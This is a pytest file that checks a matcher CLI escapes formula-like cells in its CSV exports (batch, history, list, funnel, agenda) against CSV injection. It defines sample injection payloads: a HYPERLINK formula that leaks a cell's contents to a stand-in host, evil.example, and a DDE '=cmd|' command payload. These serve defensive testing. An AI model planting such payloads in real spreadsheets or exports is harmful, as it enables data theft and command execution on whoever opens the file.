"""Every CSV matcher writes is safe to open in a spreadsheet (issue #33): a cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'`` (OWASP's CSV injection advice, ``text.cells``),
so that a name ``=HYPERLINK(...)`` in a batch file or a note ``=cmd|...`` in ``history --format csv`` is text,
not a formula."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from matcher.cli import cli
from matcher.text.cells import FORMULA_START, unescape_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Alpha")'
NOTE = "=cmd|' /C calc'!A0"


def invoke(*args: str):
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: every cell starting like a formula is a number (a score)."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # a negative number is a number, not a formula


@pytest.fixture
def hostile(tmp_path, write_profile):
    """Profiles whose names begin like formulas, each a partner of the next."""
    folder = tmp_path / "profiles"
    names = [EVIL, "+1+2", "-2+3", "@SUM(A1)"]
    for i, name in enumerate(names):
        write_profile(folder, f"p{i}", name=name, country="CN", kind="company",
                      capabilities=["laser scanning drones"], needs=["laser scanning drones"])  # fmt: skip
    return folder


def test_batch_csv_names_are_text(hostile, tmp_path):
    out = tmp_path / "b.csv"
    invoke("batch", "-o", str(out), "--profiles", str(hostile))
    rows = cells(out.read_text(encoding="utf-8"))
    assert_no_formula(rows)
    assert {unescape_cell(r[0]) for r in rows[1:]} == {EVIL, "+1+2", "-2+3", "@SUM(A1)"}
    assert {unescape_cell(r[2]) for r in rows[1:]} == {EVIL, "+1+2", "-2+3", "@SUM(A1)"}
    assert "'" + EVIL in {r[0] for r in rows}


def test_history_csv_notes_and_names_are_text(hostile, tmp_path):
    db = tmp_path / "m.db"
    invoke("record", EVIL, "+1+2", "--stage", "met", "--when", "2026-01-02", "--note", NOTE,
           "--ledger", str(db), "--profiles", str(hostile))  # fmt: skip
    rows = cells(invoke("history", "--format", "csv", "--ledger", str(db)).output)
    assert_no_formula(rows)
    assert rows[1][1:6] == ["'+1+2", "'" + EVIL, "met", "", "'" + NOTE]


def test_list_and_funnel_csv_are_text(hostile, tmp_path):
    rows = cells(invoke("list", "--format", "csv", "--profiles", str(hostile)).output)
    assert_no_formula(rows)
    assert sorted(r[0] for r in rows[1:]) == sorted(["'" + EVIL, "'+1+2", "'-2+3", "'@SUM(A1)"])
    db = str(tmp_path / "m.db")
    invoke(
        "record",
        "+1+2",
        "@SUM(A1)",
        "--stage",
        "met",
        "--when",
        "2026-01-02",
        "--ledger",
        db,
        "--profiles",
        str(hostile),
    )
    funnel = cells(invoke("funnel", "--format", "csv", "--ledger", db).output)
    assert funnel[4] == ["met", "1", "1.0"]
    assert_no_formula(funnel)


@pytest.mark.parametrize("by", ["slot", "participant"])
def test_agenda_csv_is_text(hostile, tmp_path, by):
    out = tmp_path / "agenda.csv"
    invoke("schedule", "--slots", "2", "--tables", "2", "--by", by, "-o", str(out), "--profiles", str(hostile))
    rows = cells(out.read_text(encoding="utf-8"))
    assert len(rows) > 1
    assert_no_formula(rows)
